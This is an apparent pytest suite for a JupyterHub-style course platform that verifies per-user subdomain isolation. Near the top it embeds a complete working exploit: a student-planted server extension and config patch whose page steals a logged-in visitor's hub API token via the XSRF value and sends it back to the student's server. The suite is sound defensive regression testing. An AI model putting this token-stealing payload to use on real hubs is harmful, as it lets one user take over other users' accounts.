"""An origin per user: a student's own server pages cannot act as a visitor on the hub (issue 16, item 1).

The exploit: a student adds a page to their own server through ~/.jupyter/jupyter_server_config.py,
restarts it, and sends the link to a logged-in classmate; the page's script reads the hub's XSRF value,
creates an API token for the visitor and sends it back to the student's server.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import textwrap
from urllib.parse import quote, urlsplit

import pytest
import requests
from conftest import REPO, free_port, run_first_cell, wait_for
from test_courses import make_course_repo

from coursehub.clients.kernel import KernelSession
from coursehub.clients.loopback import browser_session

pytestmark = [pytest.mark.hub, pytest.mark.browser]

# A server extension, as any student may write: an unauthenticated page that, opened by someone logged
# in to the hub, asks the hub for a token of the visitor and keeps it.
STEALER = '''
import json, os
from tornado import web
from jupyter_server.utils import url_path_join

LOOT = os.path.expanduser("~/loot.json")
PAGE = """<!doctype html><title>homework</title><script>
const hub = %s;
async function steal() {
  const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
  const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
  const user = page.match(/user: "([^"]+)"/)[1];
  const made = await fetch(hub + "/hub/api/users/" + user + "/tokens", {
    method: "POST", credentials: "include",
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: "homework"}),
  });
  const token = (await made.json()).token;
  await fetch("collect", {method: "POST", body: JSON.stringify({user: user, token: token})});
}
steal().catch(e => { document.body.dataset.error = String(e); })
       .finally(() => { document.title = "done"; });
</script>"""


class Page(web.RequestHandler):
    def get(self):
        self.finish(PAGE % json.dumps(os.environ.get("JUPYTERHUB_HOST", "")))


class Collect(web.RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def post(self):
        with open(LOOT, "w") as f:
            f.write(self.request.body.decode())

    def get(self):
        self.finish(open(LOOT).read() if os.path.exists(LOOT) else "{}")


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(".*$", [
        (url_path_join(base, "homework"), Page),
        (url_path_join(base, "collect"), Collect),
    ])
'''

# Config files are Python: this one adds the page when the server builds its web app.
CONFIG = """
import os, sys
sys.path.insert(0, os.path.expanduser("~/.jupyter"))
import stealer
from jupyter_server.serverapp import ServerApp
_init_webapp = ServerApp.init_webapp
def init_webapp(self):
    _init_webapp(self)
    stealer._load_jupyter_server_extension(self)
ServerApp.init_webapp = init_webapp
"""


def plant_stealer(hub, student: str, token: str) -> str:
    """The student's own config adds the page; the server restarted; the page's URL."""
    code = textwrap.dedent(f"""
        import os
        os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
        open(os.path.expanduser("~/.jupyter/stealer.py"), "w").write({STEALER!r})
        open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "w").write({CONFIG!r})
    """)
    hub.spawn(student, token)
    hub.run(student, token, code)
    hub.api().stop_server(student)
    wait_for(lambda: not hub.api().json("GET", f"users/{student}")["servers"], what="the stop")
    url = hub.spawn(student, token)
    page = requests.get(url + "homework", timeout=30)
    assert page.status_code == 200 and "steal()" in page.text, "the student's page is not served"
    return url


def visit(hub, browser, visitor: str, url: str) -> dict:
    """The visitor logs in to the hub in Chromium, then opens the student's link; what the page sent home."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(hub.url + "hub/login?next=%2Fhub%2Fhome")
    page.fill("input[name=username]", visitor)
    page.fill("input[name=password]", hub.passwords[visitor])
    page.click("input[type=submit], button[type=submit]")
    page.wait_for_url("**/hub/home")
    page.goto(url + "homework")
    page.wait_for_function("document.title === 'done'")
    context.close()
    return requests.get(url + "collect", timeout=30).json()


def answers_as(hub, token: str | None) -> str | None:
    """The name the hub's API knows `token` by, or None."""
    if not token:
        return None
    response = requests.get(hub.url + "hub/api/user", headers={"Authorization": f"token {token}"}, timeout=30)
    return response.json()["name"] if response.status_code == 200 else None


TEXTBOOK = f"http://127.0.0.1:{free_port()}"  # the origin of a page that runs thebe


@pytest.fixture(scope="module")
def hub(make_hub_module):
    """A hub with hub.subdomains on, an open course, and a git daemon serving a Binder course ('book')."""
    hub = make_hub_module(hub={"subdomains": True}, binder={"allowed_origins": [TEXTBOOK]})
    hub.cli("course", "add", str(REPO / "coursehub" / "demo"), "--name", "open1", "--access", "open")
    repos = hub.root / "git"
    make_course_repo(repos)  # bio101: a notebook that imports the course's own package (tabulate)
    port = free_port()
    daemon = subprocess.Popen(
        ["git", "daemon", "--export-all", "--reuseaddr", f"--port={port}", "--listen=127.0.0.1"]
        + [f"--base-path={repos}", str(repos)]
    )
    hub.book_url = f"git://127.0.0.1:{port}/bio101"
    try:
        wait_for(
            lambda: subprocess.run(["git", "ls-remote", hub.book_url], capture_output=True).returncode == 0,
            timeout=30,
            what="git daemon",
        )
        hub.cli(
            "course",
            "add",
            hub.book_url,
            "--name",
            "book",
            "--access",
            "open",
            "--notebook",
            "week1/intro.ipynb",
        )
        yield hub
    finally:
        daemon.terminate()


def host_of(url: str) -> str:
    return urlsplit(url).netloc


def test_a_students_page_cannot_take_a_visitors_token(hub, browser):
    student, visitor = hub.create_accounts("org", 2)
    url = plant_stealer(hub, student, hub.token_for(student))
    assert host_of(url) == f"{student}.localhost:{hub.port}"
    loot = visit(hub, browser, visitor, url)
    assert answers_as(hub, loot.get("token")) != visitor, "the student's page took the visitor's token"
    assert "hub.subdomains is off" not in hub.log()


def test_without_subdomains_a_students_page_takes_a_visitors_token(fork_hub, browser):
    """What docs/security.md says a hub without subdomains allows (and `up` warns about)."""
    if fork_hub.subdomains:
        pytest.skip("COURSEHUB_TEST_SUBDOMAINS: the session hub has subdomains")
    student, visitor = fork_hub.create_accounts("shr", 2)
    url = plant_stealer(fork_hub, student, fork_hub.token_for(student))
    loot = visit(fork_hub, browser, visitor, url)
    assert answers_as(fork_hub, loot.get("token")) == visitor
    assert "hub.subdomains is off" in fork_hub.log()  # `coursehub up` warned


def test_servers_answer_on_their_users_hosts_and_run_code(hub):
    (name,) = hub.create_accounts("sub", 1)
    token = hub.token_for(name)
    url = hub.spawn(name, token)
    model = hub.api().json("GET", f"users/{name}")
    assert model["servers"][""]["url"] == url == f"http://{name}.localhost:{hub.port}/user/{name}/"
    assert hub.run(name, token, "print(6 * 7)").strip() == "42"
    # The old address under the hub's origin sends the browser on to the user's own host.
    moved = hub.login(name).get(hub.url + f"user/{name}/lab", timeout=60)
    assert moved.status_code == 200 and moved.url.startswith(url + "lab"), moved.url
    # Another user's host does not serve this server.
    (other,) = hub.create_accounts("sbo", 1)
    elsewhere = f"http://{other}.localhost:{hub.port}/user/{name}/api/status"
    response = requests.get(elsewhere, headers={"Authorization": f"token {token}"}, allow_redirects=False)
    assert response.status_code != 200


def test_browser_login_opens_jupyterlab_on_the_users_host_and_runs_a_cell(hub, browser, output_dir):
    (name,) = hub.create_accounts("sbw", 1)
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    page.set_default_timeout(120_000)
    page.goto(hub.url + "hub/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", hub.passwords[name])
    page.click("input[type=submit], button[type=submit]")
    try:
        page.wait_for_url(f"http://{name}.localhost:{hub.port}/user/{name}/demo/lab**", timeout=180_000)
    except Exception:
        page.screenshot(path=str(output_dir / "origins-login-FAILED.png"))
        raise AssertionError(f"the browser is at {page.url}, not JupyterLab on {name}'s host") from None
    page.goto(hub.server_url(name, "demo") + "lab/tree/demo/welcome.ipynb")
    run_first_cell(page, output_dir, "origins-jupyterlab-cell.png", code="print(6 * 7)", expect="42")
    page.close()


def test_launch_link_tmplogin_and_gitpuller_link_reach_the_users_host(hub):
    (name,) = hub.create_accounts("sbl", 1)
    session = hub.login(name)
    assert session.get(hub.url + "hub/launch/demo", timeout=120).status_code == 200
    wait_for(
        lambda: hub.api().json("GET", f"users/{name}")["servers"].get("demo", {}).get("ready"),
        timeout=180,
        what="the demo course server",
    )
    # Once the server runs, the link goes straight to the user's host (and logs in there by OAuth).
    lab = session.get(hub.url + "hub/launch/demo?path=welcome.ipynb", timeout=120)
    assert lab.status_code == 200 and "JupyterLab" in lab.text
    assert lab.url.startswith(hub.server_url(name, "demo") + "lab/tree/demo/welcome.ipynb")
    # nbgitpuller's link: the default server may still be starting (the hub's pending page), then the
    # link lands on the user's host.
    link = (hub.url + "hub/user-redirect/git-pull", {"repo": hub.book_url, "urlpath": "lab"})
    pull = session.get(link[0], params=link[1], timeout=120)
    assert pull.status_code == 200
    if "/hub/spawn-pending/" in pull.url:
        wait_for(
            lambda: hub.api().json("GET", f"users/{name}")["servers"].get("", {}).get("ready"),
            timeout=180,
            what="the default server",
        )
        pull = session.get(link[0], params=link[1], timeout=120)
    assert pull.status_code == 200 and pull.url.startswith(hub.server_url(name) + "git-pull"), pull.url
    guest = browser_session()
    response = guest.get(hub.url + "hub/tmplogin?course=open1", timeout=120)
    assert response.status_code == 200
    me = guest.get(
        hub.url + "hub/api/user", headers={"X-XSRFToken": guest.cookies.get("_xsrf", path="/hub/")}
    )
    guest_name = me.json()["name"]
    wait_for(
        lambda: hub.api().json("GET", f"users/{guest_name}")["servers"].get("open1", {}).get("ready"),
        timeout=180,
        what="the guest's server",
    )
    lab = guest.get(hub.url + f"user/{guest_name}/open1/lab", timeout=120)
    assert lab.status_code == 200 and lab.url.startswith(hub.server_url(guest_name, "open1"))


def test_binder_ready_url_is_the_servers_own_origin(hub):
    spec = f"git/{quote(hub.book_url, safe='')}/HEAD"
    response = requests.get(
        hub.url + "hub/binder/build/" + spec,
        headers={"Accept": "text/event-stream", "Origin": TEXTBOOK},
        stream=True,
        timeout=300,
    )
    assert response.headers["Access-Control-Allow-Origin"] == TEXTBOOK
    ready = None
    for line in response.iter_lines(decode_unicode=True):
        if line.startswith("data:") and ('"phase": "ready"' in line or '"phase": "failed"' in line):
            ready = json.loads(line[5:])
            break
    response.close()
    assert ready and ready["phase"] == "ready", ready
    user = urlsplit(ready["url"]).path.split("/")[2]
    assert ready["url"] == f"http://{user}.localhost:{hub.port}/user/{user}/book/"
    # thebe, on the textbook's origin, talks to the server's own origin with the token.
    auth = {"Authorization": f"token {ready['token']}", "Origin": TEXTBOOK}
    specs = requests.get(ready["url"] + "api/kernelspecs", headers=auth, timeout=30)
    assert specs.status_code == 200 and specs.headers.get("Access-Control-Allow-Origin") == TEXTBOOK
    with KernelSession(ready["url"], ready["token"]) as kernel:
        assert kernel.execute("print(6 * 7)").stdout.strip() == "42"


def test_status_page_and_the_cli_work_with_subdomains(hub):
    (name,) = hub.create_accounts("sbs", 1)
    hub.spawn(name, hub.token_for(name))
    password = re.search(r"admin: (\S+)", hub.cli("accounts", "reset", "admin").stdout)
    assert password is not None
    hub.passwords["admin"] = password.group(1)
    session = hub.login("admin")
    report = session.get(hub.url + "hub/coursehub/status.json", timeout=30)
    assert report.status_code == 200, report.text
    assert name in session.get(hub.url + "hub/coursehub/status", timeout=30).text or report.json()
    assert name in hub.cli("status").stdout


def test_loadtest_runs_against_a_hub_with_subdomains(hub, output_dir):
    from test_ops_loadtest import assert_every_phase_succeeded, run_loadtest

    hub.create_accounts("slt", 2)
    (accounts,) = (hub.root / "cards-slt").glob("*.csv")
    result, data = run_loadtest(hub.url, output_dir / "loadtest-subdomains", "--accounts", str(accounts))
    assert_every_phase_succeeded(result, data, 2)


def test_thebe_page_runs_a_cell_on_the_servers_own_origin(hub, browser, tmp_path, output_dir):
    """The shipped thebe example on another origin: it reads the server's URL from the ready event."""
    import functools
    import http.server
    import threading

    from test_binder import THEBE

    shutil.copytree(THEBE / "lib", tmp_path / "thebe")
    page_html = (REPO / "examples" / "thebe" / "index.html").read_text()
    page_html = page_html.replace("https://hub.example.org/hub/binder", hub.url + "hub/binder")
    page_html = page_html.replace("https://github.com/example/bio101", hub.book_url)
    page_html = page_html.replace("https://unpkg.com/thebe@0.9.3/lib/", "thebe/")
    (tmp_path / "index.html").write_text(page_html)
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", urlsplit(TEXTBOOK).port), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = browser.new_page()
    page.set_default_timeout(120_000)
    sockets: list[str] = []
    page.on("websocket", lambda ws: sockets.append(ws.url))
    try:
        page.goto(TEXTBOOK + "/index.html")
        page.click(".thebe-activate-button")
        page.locator(".thebe-status", has_text=re.compile("kernel connected", re.I)).wait_for()
        page.click(".thebe-run-button")
        page.locator(".thebe-output").filter(has_text="6    7").first.wait_for()
    finally:
        page.screenshot(path=str(output_dir / "origins-thebe.png"))
        page.close()
        server.shutdown()
    assert any(re.match(rf"ws://bnd-[0-9a-f]+\.localhost:{hub.port}/user/bnd-", url) for url in sockets), (
        sockets
    )
